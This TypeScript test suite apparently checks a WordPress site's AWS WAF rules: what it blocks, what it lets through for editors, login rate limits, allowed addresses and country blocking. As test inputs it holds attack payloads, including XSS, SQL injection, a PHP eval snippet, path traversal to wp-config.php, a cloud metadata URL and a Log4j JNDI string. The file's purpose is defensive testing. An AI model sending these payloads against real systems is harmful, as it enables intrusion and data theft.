import { FirewallJudge, JudgedRequest } from "../support/firewall-judge";
import { BAD_ADDRESS } from "../support/managed-rules";
import { Changes, devWith } from "../support/site";

const LOGIN = "wordpress_logged_in_0123abcd=operator%7C1764300000%7Cx";
const editor = { cookie: `wp-settings-time-1=1764300000; ${LOGIN}` };

/** The firewall of dev's load balancer. */
function firewall(changes: Changes["firewall"] = {}, others: Changes = {}): FirewallJudge {
  const template = devWith({ ...others, firewall: { enabled: true, ...changes } });
  return new FirewallJudge(template, "aws_wafv2_web_acl.firewall");
}

const attempt = (request: Partial<JudgedRequest> = {}): JudgedRequest => ({
  method: "POST",
  path: "/wp-login.php",
  body: "log=operator&pwd=guess",
  ...request,
});

describe("a firewall", () => {
  it.each<[string, JudgedRequest]>([
    ["a script in an argument", { path: "/?s=%3Cscript%3Ealert(1)%3C/script%3E" }],
    ["SQL in an argument", { path: "/?id=1'%20or%201=1--%20" }],
    [
      "SQL in a form",
      { method: "POST", path: "/contact/", body: "id=1+UNION+SELECT+user_pass+FROM+wp_users" },
    ],
    [
      "PHP in a form of a plugin",
      { method: "POST", path: "/wp-admin/admin-ajax.php", body: "x=<?php eval($_POST[1]);" },
    ],
    ["a file of the system", { path: "/wp-content/plugins/old/get.php?file=../../../../wp-config.php" }],
    ["the metadata of the instance", { path: "/?url=http://169.254.169.254/latest/meta-data/" }],
    ["Log4j in a header", { path: "/", headers: { "X-Api-Version": "${jndi:ldap://example.com/a}" } }],
    ["a scanner", { path: "/", headers: { "User-Agent": "sqlmap/1.8" } }],
    ["nobody's browser", { path: "/", headers: { "User-Agent": "" } }],
    ["a backup", { path: "/backup.sql" }],
    ["an address that attacks others", { path: "/", address: BAD_ADDRESS }],
    [
      "an argument of the REST API, from somebody who is not logged in",
      { path: "/wp-json/wp/v2/posts?search=<script>" },
    ],
  ])("blocks %s", (_, request) => {
    expect(firewall().judge(request).action).toBe("block");
  });

  it.each<[string, JudgedRequest]>([
    ["a page", { path: "/" }],
    ["a page in Korean", { path: `/${encodeURIComponent("안녕하세요-여러분")}/` }],
    ["a search in Korean", { path: `/?s=${encodeURIComponent("한국어 검색")}` }],
    ["a style", { path: "/wp-includes/css/dist/block-library/style.min.css?ver=7.1.3" }],
    ["a link from a newsletter", { path: "/post/?utm_source=letter&utm_medium=mail&fbclid=IwAR0abc" }],
    ["the feed", { path: "/feed/" }],
    [
      "the login form's styles",
      { path: "/wp-admin/load-styles.php?c=0&dir=ltr&load%5Bchunk_0%5D=dashicons,buttons,forms,l10n,login" },
    ],
    [
      "a comment",
      {
        method: "POST",
        path: "/wp-comments-post.php",
        body: form({ comment: "좋은 글이에요! It's good.", author: "O'Brien", email: "a@example.com" }),
      },
    ],
    [
      "an order",
      {
        method: "POST",
        path: "/?wc-ajax=checkout",
        body: form({
          billing_first_name: "성우",
          billing_address_1: "서울특별시 강남구 테헤란로 152, 3층 #301",
          billing_email: "a.b+c@example.com",
          order_comments: "문 앞에 놓아주세요 (벨 X)",
          _wp_http_referer: "/checkout/",
        }),
      },
    ],
    [
      "a large file that a visitor sends with a form",
      { method: "POST", path: "/contact/", body: "a".repeat(100_000) },
    ],
  ])("lets visitors have %s", (_, request) => {
    expect(firewall().judge(request)).toMatchObject({ action: "allow" });
  });

  const html =
    '<!-- wp:paragraph --><p>How to <a href="/x" onclick="y()">SELECT * FROM wp_posts</a></p><!-- /wp:paragraph -->';
  it.each<[string, JudgedRequest]>([
    [
      "a post",
      {
        method: "POST",
        path: "/wp-json/wp/v2/posts/1?_locale=user",
        headers: editor,
        body: JSON.stringify({ content: html }),
      },
    ],
    [
      "a post on a site without permalinks",
      {
        method: "POST",
        path: "/index.php?rest_route=%2Fwp%2Fv2%2Fposts",
        headers: editor,
        body: JSON.stringify({ content: html }),
      },
    ],
    [
      "a plugin's archive",
      {
        method: "POST",
        path: "/wp-admin/update.php?action=upload-plugin",
        headers: editor,
        body: "<?php eval($_POST['x']); ../../",
      },
    ],
    [
      "many scripts in one address",
      { path: `/wp-admin/load-scripts.php?c=1&load=${"jquery-core,".repeat(300)}`, headers: editor },
    ],
    [
      "the customizer's preview",
      {
        method: "POST",
        path: "/?customize_changeset_uuid=1&customize_theme=a",
        headers: editor,
        body: form({ customized: html }),
      },
    ],
    [
      "a comment with HTML",
      { method: "POST", path: "/wp-comments-post.php", headers: editor, body: form({ comment: html }) },
    ],
    [
      "a log among a plugin's settings",
      { path: "/wp-admin/admin.php?page=logs&file=today.log", headers: editor },
    ],
  ])("counts %s of an editor, which looks like an attack, and lets it pass", (_, request) => {
    const verdict = firewall().judge(request);
    expect(verdict).toMatchObject({ action: "allow" });
    expect(verdict.counted).toEqual(expect.arrayContaining(["suspicious", "suspicious-but-editing"]));
    // Only because it is an editor's.
    expect(firewall().judge({ ...request, headers: {} })).toMatchObject({ by: "suspicious-and-not-editing" });
  });

  it("lets apps publish with an application's password", () => {
    const request = { method: "POST", path: "/wp-json/wp/v2/posts", body: JSON.stringify({ content: html }) };
    expect(
      firewall().judge({ ...request, headers: { Authorization: "Basic b3BlcmF0b3I6eA==" } }).action,
    ).toBe("allow");
  });

  it("lets a password look like anything", () => {
    expect(firewall().judge(attempt({ body: form({ pwd: `<script>' or 1=1 -- ` }) })).action).toBe("allow");
  });

  it.each([
    "/?s=<script>alert(1)</script>",
    "/wp-admin/../?s=<script>alert(1)</script>",
    "/wp-content/plugins/old/get.php?file=../../../../wp-config.php",
  ])("protects %s from somebody who only sends an editor's cookie", (path) => {
    expect(firewall().judge({ path, headers: editor }).action).toBe("block");
  });
});

describe("attempts to log in", () => {
  it("are limited to 20 a minute for an address, with a 429; others and pages are not", () => {
    const judge = firewall();
    const verdicts = Array.from({ length: 21 }, (_, second) => judge.judge(attempt({ at: second })));
    expect(verdicts.slice(0, 20).map(({ action }) => action)).not.toContain("block");
    expect(verdicts[20]).toMatchObject({ by: "login-attempts", status: 429 });
    expect(judge.judge(attempt({ at: 21, address: "203.0.113.100" })).action).toBe("allow");
    expect(judge.judge({ path: "/wp-login.php", at: 21 }).action).toBe("allow");
    expect(judge.judge(attempt({ at: 90 })).action).toBe("allow");
  });

  it("are counted however the path is spelt, and whatever X-Forwarded-For says", () => {
    const judge = firewall();
    const paths = ["//wp-login.php", "/%77p-login.php", "/./wp-login.php", "/wp-login.php/x"];
    const verdicts = Array.from({ length: 21 }, (_, place) =>
      judge.judge(attempt({ path: paths[place % 4]!, headers: { "X-Forwarded-For": `192.0.2.${place}` } })),
    );
    expect(verdicts[20]!.by).toBe("login-attempts");
  });

  it("have the instances' limit, and at least AWS's minimum of 10", () => {
    const limit = (loginAttemptsPerMinute: number) => {
      const judge = firewall({}, { wordpress: { loginAttemptsPerMinute } });
      return Array.from({ length: 200 }, () => judge.judge(attempt())).findIndex(
        ({ action }) => action === "block",
      );
    };
    expect([limit(5), limit(40)]).toEqual([10, 40]);
  });
});

describe("its settings", () => {
  it("count instead of block, to begin with", () => {
    const judge = firewall({ mode: "count", blockedCountries: ["KP"] });
    const bad = { path: "/xmlrpc.php?s=<script>", country: "KP", address: BAD_ADDRESS };
    expect(judge.judge(bad)).toMatchObject({
      action: "allow",
      counted: expect.arrayContaining([
        "blocked-countries",
        "xmlrpc",
        "suspicious-and-not-editing",
      ]) as unknown,
    });
    const logins = Array.from({ length: 30 }, () => judge.judge(attempt()));
    expect(logins.every(({ action }) => action === "allow")).toBe(true);
    expect(logins[29]!.counted).toContain("login-attempts");
  });

  it("let monitors do anything, by IPv4 and IPv6", () => {
    const judge = firewall({ allowedCidrs: ["203.0.113.7/32", "2001:db8::/32"] });
    const bad = { path: "/?s=<script>", headers: { "User-Agent": "" } };
    expect(judge.judge({ ...bad, address: "203.0.113.7" })).toMatchObject({ by: "allowed-addresses" });
    expect(judge.judge({ ...bad, address: "2001:db8::1" })).toMatchObject({ by: "allowed-addresses" });
    expect(judge.judge({ ...bad, address: "203.0.113.8" }).action).toBe("block");
  });

  it("block countries", () => {
    const judge = firewall({ blockedCountries: ["KP"] });
    expect(judge.judge({ path: "/", country: "KP" })).toMatchObject({ by: "blocked-countries" });
    expect(judge.judge({ path: "/", country: "KR" }).action).toBe("allow");
  });

  it("agree with the instances about XML-RPC, dumps and logs", () => {
    const closed = firewall();
    expect(closed.judge({ method: "POST", path: "/xmlrpc.php" })).toMatchObject({
      by: "xmlrpc",
      status: 403,
    });
    const open = firewall({}, { wordpress: { xmlrpc: true, publicDumpsAndLogs: true } });
    const post = "<methodCall><param><p>안녕</p></param></methodCall>";
    expect(open.judge({ method: "POST", path: "/xmlrpc.php", body: post }).action).toBe("allow");
    expect(open.judge({ path: "/catalogue.sql" }).action).toBe("allow");
  });
});

function form(fields: Readonly<Record<string, string>>): string {
  return new URLSearchParams(fields).toString();
}
